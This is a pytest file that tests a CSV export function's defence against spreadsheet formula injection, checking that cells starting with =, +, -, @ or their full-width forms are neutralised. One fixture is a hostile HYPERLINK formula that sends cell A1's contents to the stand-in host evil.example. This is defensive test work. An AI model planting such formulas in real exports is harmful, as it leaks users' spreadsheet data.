import csv
import io
from itertools import product

import pytest

from groundswell.kernel.spreadsheet import table

SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def read(text, separator=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.mark.parametrize("first", [*SIGNS, "\t", "\r", "\n"], ids=ascii)
def test_no_cell_is_a_formula(first):
    evil = f'{first}HYPERLINK("https://evil.example/?"&A1,"click")'

    assert read(table([[evil]])) == [["'" + evil]]


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"], ids=ascii)
@pytest.mark.parametrize("column", [0, 1, 2])
def test_no_cell_is_a_formula_whatever_separates(separator, column):
    parts = (";", "\t", "|", ",", "\n", "\r\n", " ", '"', "", "a"), (*SIGNS, " =", '"=', "\u00a0+", '""=', "'")
    for before, sign, end in product(*parts, ("1+1", '1+1&"', "")):
        row = ["ada", "b", "c"]
        row[column] = f"x{before}{sign}{end}"
        evil = [row, [f"{before}{sign}{end}", "", f"{sign}{end}"]]

        for line in read(table(evil), separator):
            for cell in line:
                assert not cell.lstrip(' \u00a0"').startswith(SIGNS), (evil, line)


def test_every_cell_is_quoted():
    assert table([["person", "n"], ["ada", ""]]) == '"person","n"\r\n"ada",""\r\n'


def test_other_cells_stay_as_they_are():
    rows = [["person"], ["ada"], ['say "hi", =1'], ["a-b@c.example"], [""], ["a; b|c\td - e"], ["x=1;y=2"]]

    assert read(table(rows)) == rows


def test_a_long_cell_of_separators_takes_no_longer_than_any_other():
    assert len(table([["\t" * 200_000 + " " * 200_000 + ";" * 200_000]])) == 600_005
